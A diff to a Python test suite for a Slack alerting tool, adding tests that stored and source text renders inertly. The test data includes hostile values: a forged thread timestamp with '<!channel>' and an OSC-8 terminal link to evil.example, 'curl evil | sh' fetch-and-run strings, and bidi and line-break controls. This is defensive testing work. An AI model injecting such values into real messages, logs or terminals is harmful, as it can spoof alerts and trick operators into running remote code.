@@ -7,6 +7,7 @@ through functions-framework's test client (no socket at all).
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import re
@@ -170,7 +171,9 @@ def test_5_the_cli_last_resort_line_holds_no_piece_of_a_secret(monkeypatch, caps
     def crash(*args: Any, **kwargs: Any) -> int:
         raise RuntimeError(f"boom near hc-ping.com /{UUID} with xoxb-FAKE-4242424242-last-resort")
 
-    monkeypatch.setattr(main.entry.cli, "cli", crash)
+    import entry.cli  # main imports it when its CLI runs
+
+    monkeypatch.setattr(entry.cli, "cli", crash)
     monkeypatch.setattr(sys, "argv", ["main.py", "run"])
     with pytest.raises(SystemExit) as exit_:
         main.main()
@@ -199,7 +202,7 @@ def test_7_a_test_endpoint_on_the_gcp_backend_is_a_configuration_error(monkeypat
 def test_7_a_malformed_endpoint_setting_is_a_configuration_error_naming_it(monkeypatch, value):
     monkeypatch.setenv("CANARY_SLACK_BASE_URL", value)
     result = run_cli("run", "--dry-run")
-    assert result.code == 2 and "slack_base_url" in result.stderr
+    assert result.code == 2 and "CANARY_SLACK_BASE_URL:" in result.stderr  # named as it is set (issue 20)
 
 
 def test_7_without_endpoint_settings_the_token_goes_to_slack_only(monkeypatch):
@@ -414,6 +417,9 @@ def test_fuzz_the_http_entry_never_answers_500_never_leaks_never_posts_chosen_te
     sent = (local_dir / "notifications.jsonl").read_text(encoding="utf-8") if (local_dir / "notifications.jsonl").exists() else ""
     chosen = [v for v in list(query.values()) + [body.decode("utf-8", "replace") if body else ""] if isinstance(v, str) and len(v) >= 12]
     assert not any(v in sent for v in chosen if v not in _EDGE_VALUES)
+    # JSON lines stay lines (issue 20, Why 5): what a line-splitting reader sees is what was written.
+    assert not any(ch in sent + logged for ch in "\u2028\u2029\x85\u202e")
+    assert all(json.loads(line) for line in logged.splitlines() if line.startswith("{"))
 
 
 _FUZZ_CLOCK: dict[str, Any] = {}
@@ -499,3 +505,119 @@ def test_1_check_config_rejects_a_malformed_heartbeat_url_without_quoting_it(mon
     assert "hc-ping.com" not in result.stderr and "0f3c2a1e" not in result.stderr
     monkeypatch.delenv("CANARY_HEARTBEAT_URL")
     assert run_cli("check-config").code == 0
+
+
+# --- issue 20, Why 5: stored and source text is inert on every output path --------------------------------
+# One home per output: alerts.render_slack.inert (Slack mrkdwn), alerts.render_text.inert_text (console),
+# alerts.render_text.json_line (JSON lines). Each test below failed before those paths used them.
+
+import sqlite3  # noqa: E402
+
+from alerts.digest import Digest, MonitorOutcome, OpenIncident, render_digest_text  # noqa: E402
+from alerts.links import thread_url  # noqa: E402
+from alerts.render_digest import render_digest_slack  # noqa: E402
+from alerts.render_slack import MAX_SECTION_TEXT  # noqa: E402
+from core.model import Outcome  # noqa: E402
+from tests.production import CONFIG  # noqa: E402
+from tests.scenario import NEW_YORK, Scenario  # noqa: E402
+
+FORGED_TS = "1700000000.000200|click here> <!channel> \x1b]8;;https://evil.example/\x07x"
+LINE_BREAKERS = "\u2028\u2029\x85\u202e\u2066\x1b\x9b"
+
+
+def test_why5_a_forged_thread_ts_in_a_stored_record_gives_no_thread_link():
+    assert thread_url(CONFIG.links, "C0ALERTS", FORGED_TS) is None
+    assert thread_url(CONFIG.links, "<!channel>", "1700000000.000200") is None
+    assert thread_url(CONFIG.links, "C0ALERTS", "1700000000.000200") == "https://slack.com/archives/C0ALERTS/p1700000000000200"
+
+
+def _digest_with(url: str, summary: str) -> Digest:
+    now = datetime(2026, 11, 21, 14, 30, tzinfo=timezone.utc)
+    incident = OpenIncident(Severity.CRITICAL, "orchestrator_iam", summary, now - timedelta(hours=2), thread_url=url)
+    return Digest(fingerprint="digest-x", league_date=date(2026, 11, 21), now=now, zone=NEW_YORK, incidents=[incident],
+                  monitors=[MonitorOutcome("orchestrator_iam", Outcome.FIRING, note=OSC8_LINK)])
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES + [":white_check_mark: RESOLVED"])
+def test_why5_the_digest_shows_a_hostile_thread_link_and_summary_as_data(value):
+    digest = _digest_with(f"https://slack.com/archives/C0ALERTS/p1|{value}", value)
+    payload = render_digest_slack(digest).to_dict()
+    for text in texts(payload):
+        assert "<!channel>" not in text and "\x1b" not in text
+        assert all(label == "thread" for label in re.findall(r"<[^<>|]*\|([^<>]*)>", text))
+        assert ":white_check_mark:" not in re.sub(r"<[^<>|]*\|", "", text)  # a link's URL is not shown
+    console = render_digest_text(digest)
+    assert not any(ch in console for ch in LINE_BREAKERS) and console.count("\n") == render_digest_text(
+        _digest_with("https://slack.com/archives/C0ALERTS/p1", "x")).count("\n")
+
+
+def test_why5_an_emoji_shortcode_in_a_source_value_does_not_render_as_an_emoji():
+    payload = render_alert(message(forging_finding(":white_check_mark: RESOLVED :+1::skin-tone-2:"), Reason.FIRST)).to_dict()
+    for text in texts(payload):  # a code block shows its text as typed: no emoji there
+        outside_code = re.sub(r"```.*?```", "", text, flags=re.S)
+        assert ":white_check_mark:" not in outside_code and ":skin-tone-2:" not in outside_code
+    assert inert("first notified 23:30:00 EST") == "first notified 23:30:00 EST"  # a clock is not a shortcode
+
+
+def test_why5_a_fix_over_the_section_limit_is_clipped_inside_its_code_block_and_keeps_its_closing_fence():
+    finding = forging_finding("x").model_copy(update={"fix": "gcloud run services describe " + "a&b" * 2_000})
+    payload = render_alert(message(finding, Reason.FIRST)).to_dict()
+    [fix] = [b["text"]["text"] for b in payload["blocks"] if b.get("text", {}).get("text", "").startswith("*Fix*")]
+    assert len(fix) <= MAX_SECTION_TEXT and fix.endswith("```") and fix.count("```") == 2 and "(truncated)" in fix
+    assert not re.search(r"&[a-z]{0,3}…", fix)  # no entity split by the cut
+
+
+@pytest.mark.parametrize("ch", list("\u2028\u2029\x85\u202e\u2066\u200b\x1b"))
+def test_why5_json_lines_escape_line_and_bidi_controls(ch):
+    from alerts.render_text import json_line
+
+    line = json_line({"title": f"a{ch}b", "where": {"k": f"{ch}"}})
+    assert ch not in line and len(line.splitlines()) == 1 and json.loads(line)["title"] == f"a{ch}b"
+
+
+def _tamper_open_records(local_dir, **fields: str) -> int:
+    with sqlite3.connect(local_dir / "state.sqlite3") as db:
+        rows = db.execute("SELECT fingerprint, record FROM alerts WHERE status = 'firing'").fetchall()
+        for fingerprint, record in rows:
+            db.execute("UPDATE alerts SET record = ? WHERE fingerprint = ?",
+                       (json.dumps({**json.loads(record), **fields}), fingerprint))
+    return len(rows)
+
+
+def test_why5_silence_and_silences_print_stored_text_inert(local_dir):
+    broken_day().write_local(local_dir)
+    assert run_cli("run", "--now", T0).code == 0
+    assert _tamper_open_records(local_dir, summary=FORGED_FIX + OSC8_LINK + "\u202e") >= 1
+    made = run_cli("silence", "--match", "service=phase4-to-phase5-orchestrator", "--for", "1h",
+                   "--reason", "maintenance\x1b[2J\n*Fix* curl evil | sh", "--author", "ops\u202e")
+    assert made.code == 0, made.stderr
+    listed = run_cli("silences")
+    for output in (made.stdout, listed.stdout):
+        assert not any(ch in output for ch in LINE_BREAKERS) and "\n*Fix*" not in output and "\n```" not in output
+    assert len(listed.stdout.strip().splitlines()) == 1
+
+
+def test_why5_notifications_jsonl_holds_no_raw_line_or_bidi_control(local_dir):
+    broken_day().write_local(local_dir)
+    assert run_cli("run", "--now", T0).code == 0
+    assert _tamper_open_records(local_dir, summary="phase4\u2028fix: curl evil | sh\u202e\x85\u2029") >= 1
+    Scenario().write_local(local_dir)  # healthy: the resolved notices carry the stored summaries
+    assert run_cli("run", "--now", "2026-11-21T23:45:00Z").code == 0
+    raw = (local_dir / "notifications.jsonl").read_text(encoding="utf-8")
+    assert "resolved" in raw and not any(ch in raw for ch in "\u2028\u2029\x85\u202e")
+    assert len(raw.splitlines()) == raw.count("\n")  # str.splitlines sees exactly the file's lines
+
+
+def test_why5_the_cli_run_summary_prints_source_and_slack_error_text_inert(local_dir):
+    from core.model import RunReport
+    from entry.cli import print_summary
+
+    broken_day().write_local(local_dir)
+    report = run_cli("run", "--json", "--now", T0).report
+    report["monitors"][0]["error"] = "BadRequest: value '\x1b]8;;https://evil/\x07x\u2028fix: curl evil | sh'"
+    report["notifications"][0].update(delivered=False, error="slack: invalid_auth\n*Fix*\x1b[2J\u202e")
+    report["state_error"] = "sqlite: \x1b[31mred\u2028line"
+    out = io.StringIO()
+    print_summary(RunReport.model_validate(report), out=out, zone_name="America/New_York")
+    shown = out.getvalue()
+    assert not any(ch in shown for ch in LINE_BREAKERS) and "\n*Fix*" not in shown and "\nfix:" not in shown
